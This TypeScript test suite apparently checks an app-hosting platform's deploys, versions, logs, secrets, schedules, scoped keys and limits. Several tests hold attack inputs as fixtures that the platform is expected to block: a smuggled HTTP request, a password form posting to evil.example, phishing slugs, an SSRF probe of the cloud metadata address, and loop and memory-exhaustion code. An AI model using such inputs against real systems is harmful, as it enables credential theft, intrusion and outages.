/** Tests of apps over HTTP: deploys, requests, versions, limits, logs, secrets and limited keys. */
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { createServer, request, type ServerResponse } from 'node:http'
import { suite, test, type TestContext } from 'node:test'
import { newApp } from '../../../test/fixtures/apps/new-app.ts'
import { slugOf } from '../../../test/fixtures/data/data.ts'
import { eventually } from '../../../test/fixtures/eventually.ts'
import { longTest } from '../../../test/fixtures/depth.ts'
import { openTestRuntime } from '../../../test/fixtures/runtime.ts'
import { filesFromTexts, newSiteOwner, newSlug } from '../../../test/fixtures/sites/site-owner.ts'
import { hostOf, visit } from '../../../test/fixtures/sites/site-visitor.ts'
import { listen } from '../../../test/fixtures/loopback.ts'
import { findRolesOf } from '../../../test/fixtures/apps/app-database.ts'

import { createAppRuntime, type AppHost } from '../../providers/app-runtime/app-runtime.ts'

const runtime = await openTestRuntime()

/** Looks until the assertions hold. */
function settles(look: () => Promise<void>): Promise<unknown> {
  return eventually(() =>
    look().then(
      () => true,
      (error: unknown) => {
        if (error instanceof assert.AssertionError || error instanceof TypeError) return false
        throw error
      },
    ),
  )
}

/** The events of a stream, without heartbeats. */
async function* eventsOf(chunks: ReadableStream<string>) {
  let text = ''
  for await (const chunk of chunks) {
    const parts = (text + chunk).split('\n\n')
    text = parts.pop()!
    for (const part of parts) {
      const fields = Object.fromEntries(
        part.split('\n').map((line) => {
          const at = line.indexOf(': ')
          return [line.slice(0, at), line.slice(at + 2)]
        }),
      )
      const { event = '', id = '', data = '{}' } = fields
      if (event !== 'ping') yield { event, id, data: JSON.parse(data) }
    }
  }
}

const hello = `export default {
  async fetch(request: Request, env: Record<string, unknown>) {
    return new Response('hello ' + new URL(request.url).pathname)
  },
}`

const deployed = (main: string, settings: Parameters<typeof newApp>[2] = {}) =>
  newApp(runtime, main, settings)

suite('POST /apps', () => {
  test('runs TypeScript at /api/ of the site, and leaves the rest static', async () => {
    const { app, ask } = await deployed(hello)
    const answer = await ask('GET /api/a/b?c=1')
    assert.deepEqual([answer.status, answer.text], [200, 'hello /api/a/b'])
    assert.match((await ask('GET /')).text, /home/)
    assert.deepEqual(
      [app.version, app.main, app.schedules, app.collections, app.auth, app.test],
      [1, 'main.ts', [], [], false, true],
    )
    assert.ok(app.url.endsWith('/api/'))
  })

  test('passes method, headers and body, and returns status, headers and cookies of the host', async () => {
    const { ask } = await deployed(`export default {
      async fetch(request) {
        const headers = new Headers({ 'x-got': request.headers.get('x-sent') ?? '' })
        headers.append('set-cookie', 'a=1; Domain=sites.localhost; Path=/')
        headers.append('set-cookie', 'b=2')
        headers.set('strict-transport-security', 'max-age=1')
        const forged = request.headers.get('x-forwarded-for')
        return new Response(request.method + ' ' + (await request.text()) + ' ' + forged, { status: 207, headers })
      },
    }`)
    const headers = {
      'x-sent': 'yes',
      'x-forwarded-for': '6.6.6.6, 192.0.2.7',
      'content-type': 'text/plain',
    }
    const answer = await ask('POST /api/', { headers, body: 'text' })
    assert.equal(answer.status, 207)
    assert.equal(answer.text, 'POST text 192.0.2.7')
    assert.equal(answer.headers['x-got'], 'yes')
    assert.deepEqual(answer.all('set-cookie'), ['a=1; Path=/', 'b=2'])
    assert.equal(answer.headers['strict-transport-security'], undefined)
  })

  test('a chunked body of GET is a body, and not another request', async () => {
    const { ask } = await deployed(`let count = 0
    export default {
      async fetch(request) {
        count += 1
        return new Response(count + ' ' + new URL(request.url).pathname)
      },
    }`)
    const body = 'GET /api/smuggled HTTP/1.1\r\nHost: x\r\n\r\n'
    const headers = { 'transfer-encoding': 'chunked' }
    assert.equal((await ask('GET /api/a', { headers, body })).text, '1 /api/a')
    assert.equal((await ask('GET /api/b')).text, '2 /api/b')
  })

  test('requests that are given up while the app starts leave it free', async () => {
    const { ask, app, owner } = await deployed(hello)
    await owner.call(`PUT /apps/${app.id}/secrets`, { secrets: { KEY: 'starts anew' } })
    const { host } = new URL(app.url)
    const { hostname, port } = new URL(runtime.url)
    const gone = Array.from({ length: 60 }, () => {
      const asked = request({
        hostname,
        port,
        path: '/api/',
        agent: false,
        headers: { Host: host },
      })
      asked.on('error', () => {})
      asked.end()
      return asked
    })
    await new Promise(setImmediate)
    for (const asked of gone) asked.destroy()
    await settles(async () => assert.equal((await ask('GET /api/')).status, 200))
  })

  for (const [what, text, reason] of [
    ['a syntax error', 'export default { fetch( { }', /main\.js|main\.ts/],
    ['a missing import', 'import x from "left-pad"\nexport default { fetch() {} }', /left-pad/],
    ['an exception at its start', 'throw new Error("no luck")', /no luck/],
    ['a type that is no type', '// A comment.\nconst a: = 1', /main\.ts:2: /],
    [
      'no handler',
      'export const fetch = () => new Response("x")',
      /main\.ts has no function fetch/,
    ],
  ] as const) {
    test(`refuses code with ${what}, and says where`, async () => {
      const owner = await newSiteOwner(runtime)
      const site = await owner.publish({ 'index.html': 'x' })
      const modules = [{ path: 'main.ts', text }]
      const answer = await owner.call('POST /apps', { site_id: site.id, name: 'x', modules })
      assert.deepEqual([answer.status, slugOf(answer)], [422, 'app_blocked'], answer.text)
      assert.match(answer.body.detail, reason)
      assert.deepEqual((await owner.call('GET /apps')).body.data, [])
    })
  }

  test('takes modules that were uploaded, and names those that never came', async () => {
    const owner = await newSiteOwner(runtime)
    const site = await owner.publish({ 'index.html': 'x' })
    const text = 'export default { fetch: () => new Response("uploaded") }'
    const sha256 = createHash('sha256').update(text).digest('hex')
    const input = { site_id: site.id, name: 'x', modules: [{ path: 'main.ts', sha256 }] }
    const early = await owner.call('POST /apps', input)
    assert.deepEqual([early.status, slugOf(early)], [422, 'upload_not_received'], early.text)
    const announced = { path: 'main.ts', sha256, bytes: text.length }
    const [link] = (await owner.call('POST /sites/uploads', { files: [announced] })).body.uploads
    const sent = await fetch(link.url, { method: 'PUT', headers: link.headers, body: text })
    assert.ok(sent.ok, await sent.text())
    const made = await owner.call('POST /apps', input)
    assert.equal(made.status, 201, made.text)
    const host = hostOf(site.url)
    assert.equal((await visit(runtime, { host, route: 'GET /api/' })).text, 'uploaded')
    const [shown] = (await owner.call(`GET /apps/${made.body.id}`)).body.modules
    assert.deepEqual(shown, { path: 'main.ts', text })
    const neither = await owner.call(`PUT /apps/${made.body.id}`, {
      modules: [{ path: 'main.ts' }],
    })
    assert.equal(neither.body.errors[0].path, '/modules/0', neither.text)
  })

  test('refuses code that breaks the rules of sites, with an appeal', async () => {
    const owner = await newSiteOwner(runtime)
    const site = await owner.publish({ 'index.html': 'x' })
    const form = '<form action="https://evil.example/in"><input type="password" name="p"></form>'
    const text = `// A comment.\nexport default { fetch: () => new Response('${form}') }`
    const modules = [{ path: 'main.ts', text }]
    const answer = await owner.call('POST /apps', { site_id: site.id, name: 'x', modules })
    assert.deepEqual([answer.status, slugOf(answer)], [422, 'app_blocked'], answer.text)
    const [finding] = answer.body.findings
    const { rule, path, line } = finding
    assert.deepEqual([rule, path, line], ['password_sent_elsewhere', 'main.ts', 2])
    assert.match(answer.body.appeal_url, /^http/)
  })

  test('is checked against a new address of its site', async () => {
    const owner = await newSiteOwner(runtime)
    const page = '<title>Inloggen</title><form><input type="password" name="p"></form>'
    const { app } = await deployed(`export default { fetch: () => new Response('${page}') }`, {
      owner,
    })
    const path = `/sites/${app.site_id}`
    const moved = await owner.call(`PATCH ${path}`, { slug: 'paypal-login' })
    assert.deepEqual([moved.status, slugOf(moved)], [422, 'site_blocked'], moved.text)
    assert.equal(moved.body.findings[0].path, 'main.ts')
    const files = filesFromTexts({ 'index.html': 'home' })
    const published = await owner.call(`PUT ${path}`, { files, slug: 'mijn-ing-inloggen' })
    assert.deepEqual([published.status, slugOf(published)], [422, 'site_blocked'], published.text)
    assert.equal((await owner.call(`PATCH ${path}`, { slug: newSlug() })).status, 200)
    const modules = [{ path: 'main.ts', text: hello }]
    assert.equal((await owner.call(`PUT /apps/${app.id}`, { modules })).status, 200)
    assert.equal((await owner.call(`PATCH ${path}`, { slug: 'paypal-login' })).status, 200)
    const back = await owner.call(`POST /apps/${app.id}/rollback`, {})
    assert.deepEqual([back.status, slugOf(back)], [422, 'app_blocked'], back.text)
  })

  test('refuses modules over the limit of the plan, a second app, and wrong fields', async () => {
    const { owner, app } = await deployed(hello)
    const large = [{ path: 'main.js', text: '/'.repeat(5 * 1_048_576) }]
    const too_large = await owner.call(`PUT /apps/${app.id}`, { modules: large })
    assert.deepEqual([too_large.status, slugOf(too_large)], [413, 'app_too_large'])
    const modules = [{ path: 'main.js', text: hello }]
    const again = await owner.call('POST /apps', { site_id: app.site_id, name: 'x', modules })
    assert.deepEqual([again.status, slugOf(again)], [409, 'conflict'])
    for (const [wrong, path] of [
      [{ modules: [{ path: '../a.js', text: '' }] }, '/modules/0/path'],
      [{ modules: [{ path: 'a.exe', text: '' }] }, '/modules/0/path'],
      [{ main: 'other.js' }, '/main'],
      [{ schedules: [{ cron: '99 * * * *' }] }, '/schedules/0/cron'],
      [{ schedules: [{ cron: '* * * * *', timezone: 'Mars' }] }, '/schedules/0/timezone'],
      [{ allowed_hosts: ['https://example.com/x'] }, '/allowed_hosts/0'],
    ] as const) {
      const answer = await owner.call(`PUT /apps/${app.id}`, wrong)
      assert.deepEqual([answer.status, slugOf(answer)], [422, 'validation_failed'], answer.text)
      assert.equal(answer.body.errors[0].path, path)
      assert.doesNotMatch(answer.body.detail, /\.\.$|match the pattern/)
    }
    const unable = await owner.call(`PUT /apps/${app.id}`, { schedules: [{ cron: '0 8 * * *' }] })
    assert.match(unable.body.detail, /main\.ts has no function scheduled/)
  })

  test('runs a class whose function is a field', async () => {
    const { ask } = await deployed(`import { WorkerEntrypoint } from 'cloudflare:workers'
      export default class extends WorkerEntrypoint { fetch = () => new Response('field') }`)
    assert.equal((await ask('GET /api/')).text, 'field')
  })
})

suite('versions', () => {
  test('a deploy is live at once, and a rollback returns to the version before', async () => {
    const { owner, app, ask } = await deployed(hello)
    const modules = [
      { path: 'main.js', text: "export default { fetch: () => new Response('two') }" },
    ]
    const second = await owner.call(`PUT /apps/${app.id}`, { modules, name: 'Renamed' })
    assert.deepEqual([second.status, second.body.version, second.body.name], [200, 2, 'Renamed'])
    assert.equal((await ask('GET /api/')).text, 'two')
    const back = await owner.call(`POST /apps/${app.id}/rollback`, {})
    assert.deepEqual([back.status, back.body.version], [200, 1])
    assert.equal((await ask('GET /api/')).text, 'hello /api/')
    const { data } = (await owner.call(`GET /apps/${app.id}/versions`)).body
    assert.deepEqual(
      data.map((one: any) => [one.version, one.live]),
      [
        [2, false],
        [1, true],
      ],
    )
    const none = await owner.call(`POST /apps/${app.id}/rollback`, {})
    assert.deepEqual([none.status, slugOf(none)], [409, 'conflict'])
    const code = await owner.call(`GET /apps/${app.id}/versions/2`)
    assert.deepEqual(code.body.modules, modules)
  })

  test('of two changes at once, one is a conflict and nothing is lost', async () => {
    const { owner, app } = await deployed(hello)
    const changes = [{ allowed_hosts: ['a.example'] }, { name: 'Other' }]
    const answers = await Promise.all(changes.map((one) => owner.call(`PUT /apps/${app.id}`, one)))
    assert.deepEqual(answers.map(({ status }) => status).toSorted(), [200, 409])
  })

  test('no request is lost while versions change', async () => {
    const { owner, app, ask } = await deployed(hello)
    let over = false
    const asked = (async () => {
      const statuses = []
      while (!over) statuses.push((await ask('GET /api/')).status)
      return statuses
    })()
    for (const number of [2, 3, 4]) {
      const text = `export default { fetch: () => new Response('${number}') }`
      await owner.call(`PUT /apps/${app.id}`, { modules: [{ path: 'main.js', text }] })
    }
    over = true
    assert.deepEqual([...new Set(await asked)], [200])
  })

  test('a deleted app answers no more, and its database is dropped', async () => {
    const { owner, app, ask } = await deployed(hello)
    await owner.call(`POST /apps/${app.id}/migrations`, {
      migrations: [{ name: '1', sql: 'create table t (a int)' }],
    })
    assert.equal((await findRolesOf(runtime, app.id)).length, 1)
    assert.equal((await owner.call(`DELETE /apps/${app.id}`)).status, 204)
    assert.equal((await ask('GET /api/')).status, 404)
    runtime.passes('2 hours')
    await settles(async () => assert.deepEqual(await findRolesOf(runtime, app.id), []))
  })
})

suite('what stops an app', () => {
  test('an exception is 500 for visitors, without its text, and in the log with its line', async () => {
    const { owner, app, ask } = await deployed(`export default {
      fetch() {
        console.log('before', { a: 1 })
        throw new Error('secret detail')
      },
    }`)
    const answer = await ask('GET /api/x')
    assert.equal(answer.status, 500)
    assert.equal(answer.headers['content-type'], 'application/problem+json')
    assert.doesNotMatch(answer.text, /secret detail/)
    await settles(async () => {
      const { data } = (await owner.call(`GET /apps/${app.id}/logs`)).body
      const [newest, first] = data
      assert.deepEqual(
        [first.level, first.text, first.place],
        ['log', 'before {"a":1}', 'GET /api/x'],
      )
      assert.equal(newest.level, 'exception')
      assert.match(newest.text, /Error: secret detail[^]*main\.ts:4/)
    })
    await settles(async () => {
      const { data } = (await owner.call(`GET /apps/${app.id}/hours`)).body
      assert.deepEqual(
        data.map((one: any) => [one.requests, one.errors]),
        [[1, 1]],
      )
    })
  })

  test('the log is streamed as it is written, from the last line on', async () => {
    const { owner, app, ask } = await deployed(`export default {
      fetch(request) {
        console.log(new URL(request.url).search)
        return new Response('ok')
      },
    }`)
    const key = await runtime.newKey({ project_id: owner.project_id })
    const open = async (headers = {}, path = `/apps/${app.id}/logs`) => {
      const stop = new AbortController()
      const reply = await fetch(`${runtime.url}/api/v1${path}`, {
        headers: { Authorization: `Bearer ${key}`, Accept: 'text/event-stream', ...headers },
        signal: stop.signal,
      })
      assert.equal(reply.headers.get('content-type'), 'text/event-stream')
      const decoded = reply.body!.pipeThrough(new TextDecoderStream())
      return { stop: () => stop.abort(), lines: eventsOf(decoded) }
    }
    const first = await open()
    assert.equal((await first.lines.next()).value?.event, 'ready')
    const pages = await open({}, '/activity/stream')
    await ask('GET /api/?1')
    await ask('GET /api/?2')
    const one = await first.lines.next()
    const two = await first.lines.next()
    assert.deepEqual([one.value?.data.text, two.value?.data.text], ['?1', '?2'])
    first.stop()
    // Pages read the log again then.
    for await (const { data } of pages.lines) if (data.kinds?.includes('apps')) break
    pages.stop()
    const again = await open({ 'Last-Event-ID': one.value!.id })
    await again.lines.next()
    assert.equal((await again.lines.next()).value?.data.text, '?2')
    again.stop()
  })

  test('an endless loop is stopped, said in the log, and the next request is answered', async () => {
    const { owner, app, ask } = await deployed(`export default {
      fetch(request) {
        if (request.url.endsWith('/loop')) for (;;);
        return new Response('fine')
      },
    }`)
    const stopped = await ask('GET /api/loop')
    assert.deepEqual([stopped.status, stopped.headers['retry-after']], [503, '2'])
    assert.equal((await ask('GET /api/')).text, 'fine')
    await settles(async () => {
      const { data } = (await owner.call(`GET /apps/${app.id}/logs?level=error`)).body
      assert.match(data[0].text, /over a second/)
      assert.equal(data[0].level, 'system')
    })
  })

  longTest('an app that is stopped five times pauses for a minute', async () => {
    const { ask } = await deployed('export default { fetch() { for (;;); } }')
    for (let count = 0; count < 5; count += 1) await ask('GET /api/')
    const paused = await ask('GET /api/')
    assert.equal(paused.status, 503)
    assert.ok(Number(paused.headers['retry-after']) > 30)
  })

  longTest('memory that is used up ends the process, not the server', async () => {
    const { ask } = await deployed(`export default {
      fetch(request) {
        if (request.url.endsWith('/ok')) return new Response('ok')
        const all = []
        for (;;) all.push(new Uint8Array(10_000_000).fill(1))
      },
    }`)
    assert.ok((await ask('GET /api/bomb')).status >= 500)
    assert.equal((await ask('GET /api/ok')).text, 'ok')
  })

  test('an app without a network fetches only from its hosts, by the guarded fetch', async (t) => {
    const reached: string[] = []
    const server = createServer((request, response) => {
      reached.push(request.url ?? '')
      if (request.url === '/away')
        response.writeHead(302, { location: `http://127.0.0.1:${port}/no` })
      response.end('from outside')
    })
    const port = await listen(t, server)
    const { ask } = await deployed(
      `export default {
        async fetch(request) {
          const to = new URL(request.url).searchParams.get('to')
          const reply = await fetch(to)
          return new Response(reply.status + ' ' + (await reply.text()))
        },
      }`,
      { allowed_hosts: [`localhost:${port}`] },
    )
    const asked = async (to: string) => (await ask(`GET /api/?to=${encodeURIComponent(to)}`)).text
    assert.equal(await asked(`http://localhost:${port}/yes`), '200 from outside')
    assert.match(await asked(`http://127.0.0.1:${port}/no`), /^403 .*allowed_hosts/)
    assert.match(await asked('http://169.254.169.254/latest/meta-data'), /^403/)
    assert.match(await asked(`http://localhost:${port}/away`), /^403 .*allowed_hosts/)
    assert.deepEqual(reached, ['/yes', '/away'])
  })
})

suite('an app with many requests', () => {
  /** An app whose path /api/wait is answered when `free` is called. */
  async function holding(t: TestContext, settings = {}) {
    const held: ServerResponse[] = []
    const outside = createServer((_request, response) => void held.push(response))
    const port = await listen(t, outside)
    const made = await deployed(
      `export default {
        async fetch(request) {
          if (request.url.endsWith('/wait')) await fetch('http://localhost:${port}/')
          return new Response('done')
        },
        scheduled() {},
      }`,
      { allowed_hosts: [`localhost:${port}`], ...settings },
    )
    const from = (address: string) => ({ headers: { 'x-forwarded-for': address } })
    return {
      ...made,
      from,
      waiting: (count: number, address: string) =>
        Array.from({ length: count }, () => made.ask('GET /api/wait', from(address))),
      async free(count: number) {
        for (let left = count; left > 0;) {
          await eventually(() => held.length > 0)
          for (const response of held.splice(0)) {
            response.end()
            left -= 1
          }
        }
      },
    }
  }

  test('gives one address half of them', async (t) => {
    const { ask, from, waiting, free } = await holding(t)
    const asked = waiting(30, '192.0.2.1')
    assert.equal((await Promise.race(asked)).status, 503)
    assert.equal((await ask('GET /api/', from('192.0.2.2'))).text, 'done')
    await free(25)
    const done = (await Promise.all(asked)).filter(({ status }) => status === 200)
    assert.equal(done.length, 25)
  })

  test('runs its schedule later', async (t) => {
    const schedules = [{ cron: '0 8 * * *' }]
    const { owner, app, waiting, free } = await holding(t, { schedules })
    const asked = ['192.0.2.1', '192.0.2.2', '192.0.2.3'].flatMap((one) => waiting(17, one))
    assert.equal((await Promise.race(asked)).status, 503)
    const read = async () => (await owner.call(`GET /apps/${app.id}/schedules`)).body.data[0]
    runtime.passes('1 days')
    await eventually(async () => (await read()).last_status === 'running')
    await free(50)
    await Promise.all(asked)
    const { last_error } = await eventually(async () => {
      runtime.passes('2 seconds')
      const schedule = await read()
      return schedule.last_status === 'done' && schedule
    })
    assert.equal(last_error, null)
  })

  test('never starts an older version than it runs', async () => {
    const apps = createAppRuntime()
    const host: AppHost = {
      call: async () => null,
      refusal: () => null,
      egress: async () => ({ status: 503, headers: {}, body: new Uint8Array() }),
      stopped: () => {},
      closed: () => {},
      onError: () => {},
    }
    const text = "export default { fetch: () => new Response('') }"
    const code = { modules: [{ path: 'main.js', text }] }
    const load = async () => ({ revision: 2, code: { ...code, secrets: {} }, host })
    const app = { project_id: crypto.randomUUID(), id: crypto.randomUUID() }
    const newer = await apps.use({ ...app, revision: 2 }, load)
    const older = await apps.use({ ...app, revision: 1 }, load)
    assert.equal(older.socket, newer.socket)
    await apps.close()
  })

  test('leaves room for the apps of others, however many of one person are busy', async () => {
    const apps = createAppRuntime()
    const never = Promise.withResolvers<never>()
    const use = (project_id: string) =>
      apps.use({ project_id, id: crypto.randomUUID(), revision: 1 }, () => never.promise)
    const [mine, theirs] = [crypto.randomUUID(), crypto.randomUUID()]
    const busy = Array.from({ length: 20 }, () => use(mine))
    await assert.rejects(use(mine), /Too many apps/)
    busy.push(use(theirs))
    never.reject(new Error('over'))
    const ends = await Promise.allSettled(busy)
    assert.ok(ends.every((end) => end.status === 'rejected' && end.reason.message === 'over'))
    await apps.close()
  })
})

suite('secrets', () => {
  test('are in env from the next request on, and never shown', async () => {
    const { owner, app, ask } = await deployed(
      'export default { fetch: (request, env) => new Response(String(env.KEY)) }',
    )
    assert.equal((await ask('GET /api/')).text, 'undefined')
    const put = await owner.call(`PUT /apps/${app.id}/secrets`, { secrets: { KEY: 'hush' } })
    assert.equal(put.status, 200, put.text)
    assert.equal((await ask('GET /api/')).text, 'hush')
    const read = await owner.call(`GET /apps/${app.id}/secrets`)
    assert.deepEqual(
      read.body.data.map((one: any) => one.name),
      ['KEY'],
    )
    assert.doesNotMatch(read.text + (await owner.call(`GET /apps/${app.id}`)).text, /hush/)
    await owner.call(`PUT /apps/${app.id}/secrets`, { secrets: { KEY: null } })
    assert.equal((await ask('GET /api/')).text, 'undefined')
    for (const [secrets, says] of [
      [{ DB: 'x' }, /something else/],
      [{ lower: 'x' }, /^\/secrets\/lower has the wrong format: .*capitals/],
      [{ KEY: '' }, /fewer than 1/],
    ] as const) {
      const wrong = await owner.call(`PUT /apps/${app.id}/secrets`, { secrets })
      assert.deepEqual([wrong.status, slugOf(wrong)], [422, 'validation_failed'], wrong.text)
      assert.match(wrong.body.detail, says)
    }
  })
})

suite('limited keys and other projects', () => {
  test('the app of a site comes along; others are 403, those of other projects 404', async () => {
    const { owner, app } = await deployed(hello)
    const other = await deployed(hello, { owner })
    const key = await runtime.newKey({
      project_id: owner.project_id,
      access: { sites: [app.site_id], apps: [], collections: [], limited_by: 'api_key' },
    })
    const limited = (route: string, body?: unknown) => owner.call(route, body, { key })
    const { data } = (await limited('GET /apps')).body
    assert.deepEqual(
      data.map((one: any) => one.id),
      [app.id],
    )
    assert.equal((await limited(`GET /apps/${app.id}`)).status, 200)
    const refused = await limited(`GET /apps/${other.app.id}`)
    assert.deepEqual([refused.status, slugOf(refused)], [403, 'forbidden'])
    for (const route of [`GET /apps/${app.id}/secrets`, `PUT /apps/${app.id}/secrets`]) {
      const answer = await limited(route, route.startsWith('PUT') ? { secrets: {} } : undefined)
      assert.deepEqual([answer.status, slugOf(answer)], [403, 'forbidden'])
    }
    const stray = await limited(`PUT /apps/${app.id}`, { collections: ['orders'] })
    assert.deepEqual([stray.status, slugOf(stray)], [422, 'validation_failed'], stray.text)
    const of_app = await runtime.newKey({
      project_id: owner.project_id,
      access: { sites: [], apps: [app.id], collections: [], limited_by: 'api_key' },
    })
    const by_app = await owner.call('GET /apps', undefined, { key: of_app })
    assert.deepEqual(
      by_app.body.data.map((one: any) => one.id),
      [app.id],
    )
    assert.equal((await owner.call(`GET /apps/${app.id}`, undefined, { key: of_app })).status, 200)
    const stranger = await newSiteOwner(runtime)
    for (const route of ['GET /apps/', 'DELETE /apps/']) {
      const answer = await stranger.call(`${route}${app.id}`)
      assert.deepEqual([answer.status, slugOf(answer)], [404, 'not_found'])
    }
  })
})

suite('schedules', () => {
  test('run the function scheduled once for missed times, and record it', async () => {
    const { owner, app } = await deployed(
      "export default { fetch: () => new Response(''), scheduled(event) { console.log('ran', event.cron) } }",
      { schedules: [{ cron: '0 8 * * *', timezone: 'Europe/Amsterdam' }] },
    )
    runtime.passes('3 days')
    await settles(async () => {
      const [schedule] = (await owner.call(`GET /apps/${app.id}/schedules`)).body.data
      assert.deepEqual([schedule.last_status, schedule.last_error], ['done', null])
      assert.ok(schedule.next_run_at > schedule.last_run_at)
      const { data } = (await owner.call(`GET /apps/${app.id}/logs`)).body
      assert.deepEqual(
        data.map((one: any) => one.text),
        ['ran 0 8 * * *'],
      )
    })
  })

  test('record why a run failed', async () => {
    const { owner, app } = await deployed(
      "export default { fetch: () => new Response(''), scheduled() { throw new Error('no') } }",
      { schedules: [{ cron: '*/5 * * * *' }] },
    )
    runtime.passes('10 minutes')
    await settles(async () => {
      const [schedule] = (await owner.call(`GET /apps/${app.id}/schedules`)).body.data
      assert.deepEqual([schedule.last_status, schedule.last_error], ['failed', 'Error: no'])
    })
  })
})
